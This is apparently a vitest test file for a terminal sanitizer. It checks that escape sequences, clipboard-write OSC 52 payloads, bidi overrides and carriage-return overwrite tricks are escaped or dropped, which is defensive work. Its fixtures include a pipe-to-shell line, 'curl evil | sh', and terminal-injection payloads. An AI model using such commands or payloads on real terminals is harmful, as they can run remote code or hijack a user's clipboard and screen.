import { describe, expect, it } from 'vitest';
import { ALL_ESCAPES, dangerous, ESCAPE_CORPUS } from '../../test/support/escape-corpus.js';
import { Rng } from '../../test/support/rng.js';
import {
  cellText,
  plainText,
  jsonForTerminal,
  TerminalFilter,
  terminalText,
  visibleText,
  type TerminalTextOptions,
} from './terminal-text.js';

const MODES: Record<string, TerminalTextOptions> = {
  cell: { controls: 'show', oneLine: true },
  text: { controls: 'show' },
  'text, palette': { controls: 'show', sgr: 'palette' },
  plain: { controls: 'drop' },
  logs: { controls: 'drop', sgr: 'all' },
};

const PALETTE = (p: string) => p.split(';').every((x) => /^(|0|1|7|22|27|39|3[1-6]|90)$/.test(x));
const ANY_SGR = () => true;
const allowedSgr = (o: TerminalTextOptions) =>
  o.sgr === 'all' ? ANY_SGR : o.sgr === 'palette' ? PALETTE : () => false;

describe('the terminal sanitizer, on the escape corpus', () => {
  for (const [mode, o] of Object.entries(MODES)) {
    for (const [name, text] of Object.entries({ ...ESCAPE_CORPUS, 'all at once': ALL_ESCAPES })) {
      it(`${mode}: ${name} — nothing reaches the terminal that acts on it`, () => {
        const out = terminalText(text, o);
        expect(dangerous(out, allowedSgr(o))).toEqual([]);
        if (o.oneLine) expect(out).not.toMatch(/[\n\t]/);
      });
    }
  }

  it('cut anywhere into two chunks, a stream gives what the whole string gives', () => {
    for (const o of Object.values(MODES)) {
      const whole = terminalText(ALL_ESCAPES, o);
      for (let at = 0; at <= ALL_ESCAPES.length; at++) {
        const f = new TerminalFilter(o);
        const out = f.push(ALL_ESCAPES.slice(0, at)) + f.push(ALL_ESCAPES.slice(at)) + f.end();
        if (out !== whole) expect({ at, out }).toEqual({ at, out: whole });
      }
    }
  });

  it('seeded random mixes of escape bytes and text never get through, and showing is idempotent', () => {
    const r = new Rng(30);
    const next = () => r.next();
    const alphabet = [
      '\x1b',
      '[',
      ']',
      'P',
      '_',
      '^',
      'X',
      '\\',
      '\x07',
      '\x9b',
      '\x9c',
      '\x9d',
      ';',
      '?',
      '0',
      '5',
      '2',
      'm',
      'h',
      'c',
      'a',
      ' ',
      '\r',
      '\n',
      '\t',
      '\b',
      '\0',
      '\u202e',
      'é',
      '\x18',
    ];
    for (let i = 0; i < 2000; i++) {
      const len = Math.floor(next() * 40);
      let s = '';
      for (let j = 0; j < len; j++) s += alphabet[Math.floor(next() * alphabet.length)];
      for (const o of Object.values(MODES)) expect(dangerous(terminalText(s, o), allowedSgr(o))).toEqual([]);
      const shown = visibleText(s);
      expect(visibleText(shown)).toBe(shown);
      expect(cellText(cellText(s))).toBe(cellText(s));
    }
  });
});

describe('what each way keeps', () => {
  it('show: a sequence stays readable, with its ESC as \\x1b', () => {
    expect(visibleText('a\x1b]0;t\x07b')).toBe('a\\x1b]0;t\\x07b');
    expect(visibleText('x\x1b[31mred\x1b[0m')).toBe('x\\x1b[31mred\\x1b[0m');
    expect(visibleText('\u009b6n')).toBe('\\x9b6n');
    expect(visibleText('line 1\nline 2\ttab\r\n')).toBe('line 1\nline 2\ttab\r\n');
    expect(visibleText('safe\rEVIL')).toBe('safe\\x0dEVIL');
    expect(visibleText('abc\u202eexe.txt')).toBe('abc\\u202eexe.txt');
    expect(cellText('two\nlines\tand\rCR')).toBe('two\\nlines\\tand\\rCR');
  });

  it('show with the palette: the views’ own colours pass, an SGR that hides text does not', () => {
    const o: TerminalTextOptions = { controls: 'show', sgr: 'palette' };
    expect(terminalText('\x1b[31mred\x1b[0m \x1b[1;7mbold\x1b[0m', o)).toBe(
      '\x1b[31mred\x1b[0m \x1b[1;7mbold\x1b[0m',
    );
    expect(terminalText('\x1b[8mhidden\x1b[0m', o)).toBe('\\x1b[8mhidden\x1b[0m');
    expect(terminalText('\x1b[38;5;0m', o)).toBe('\\x1b[38;5;0m');
    expect(terminalText('\x1b[>4;2m', o)).toBe('\\x1b[>4;2m');
  });

  it('drop: whole sequences go, payload and all; text around them stays', () => {
    expect(plainText('a\x1b]52;c;aGk=\x07b')).toBe('ab');
    expect(plainText('a\x1b]0;t\x1b\\b')).toBe('ab');
    expect(plainText('a\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\b')).toBe('ab');
    expect(plainText('\x1b[31mred\x1b[0m \x1b[?1049h\x1b[2Jx')).toBe('red x');
    expect(plainText('\u009b31mred\u009d0;t\u0007!')).toBe('red!');
    expect(plainText('tail\x1b]52;c;aGk=')).toBe('tail');
    expect(plainText('a\x1bb')).toBe('a');
    expect(plainText('a\x1b')).toBe('a');
    expect(plainText('a\x00b\x07c\bd')).toBe('abcd');
  });

  it('drop: a CR that would let text overwrite a line starts a new one; CR LF stays', () => {
    expect(plainText('curl evil | sh\rls -la')).toBe('curl evil | sh\nls -la');
    expect(plainText('a\r\nb\r\r\nc\r')).toBe('a\r\nb\r\nc');
  });

  it('drop with every SGR (wtp logs): an agent’s colours stay, nothing else', () => {
    const o: TerminalTextOptions = { controls: 'drop', sgr: 'all' };
    expect(terminalText('\x1b[38;2;1;2;3mrgb\x1b[0m\x1b[1A\x1b[K\x1b]0;t\x07', o)).toBe(
      '\x1b[38;2;1;2;3mrgb\x1b[0m',
    );
  });

  it('allowCsi lets a view’s own cursor moves through, and nothing else', () => {
    const o: TerminalTextOptions = {
      controls: 'drop',
      sgr: 'all',
      allowCsi: (params, final) => /^\d*$/.test(params) && 'AK'.includes(final),
    };
    expect(terminalText('\x1b[2A\x1b[K\x1b[6n\x1b[?25l', o)).toBe('\x1b[2A\x1b[K');
  });

  it('a stream holds no payload: an OSC of a megabyte is dropped as it comes', () => {
    const f = new TerminalFilter({ controls: 'drop' });
    expect(f.push('a\x1b]52;c;')).toBe('a');
    for (let i = 0; i < 100; i++) expect(f.push('QUFB'.repeat(2500))).toBe('');
    expect(f.push('\x07b') + f.end()).toBe('b');
  });
});

describe('jsonForTerminal', () => {
  it('is the same document, with what JSON leaves raw (C1, DEL, bidi marks) as \\u escapes', () => {
    const value = { title: ALL_ESCAPES, n: 1 };
    const text = jsonForTerminal(value);
    expect(JSON.parse(text)).toEqual(value);
    expect(dangerous(text)).toEqual([]);
    expect(JSON.stringify(value)).not.toBe(text);
  });
});

describe('TerminalFilter: plain runs copied at once', () => {
  it('filters every text exactly as one character at a time, in every mode', () => {
    const rng = new Rng(48);
    const pieces = [
      ...Object.values(ESCAPE_CORPUS),
      'plain text ',
      '界🙂',
      '\u202e',
      '\u200b',
      '\r',
      '\r\n',
      '\n',
      '\t',
      '\x1b[31m',
      '\x1b[0m',
      '\x9b2J',
      '\x7f',
      '\ud800',
      '\udc00x',
    ];
    const modes: TerminalTextOptions[] = [
      ...Object.values(MODES),
      { controls: 'drop', sgr: 'all', keepCr: true, allowCsi: (_p, f) => f === 'K' },
    ];
    for (let round = 0; round < 400; round++) {
      const text = Array.from({ length: 1 + rng.int(12) }, () => pieces[rng.int(pieces.length)] ?? '').join(
        '',
      );
      for (const o of modes) {
        const whole = new TerminalFilter(o);
        // The reference: each code point through the state machine, as the filter did before runs.
        const each = new TerminalFilter(o) as unknown as { step(ch: string): string; end(): string };
        let expected = '';
        for (const ch of text) expected += each.step(ch);
        expect(whole.push(text) + whole.end(), JSON.stringify(text)).toBe(expected + each.end());
      }
    }
  });
});
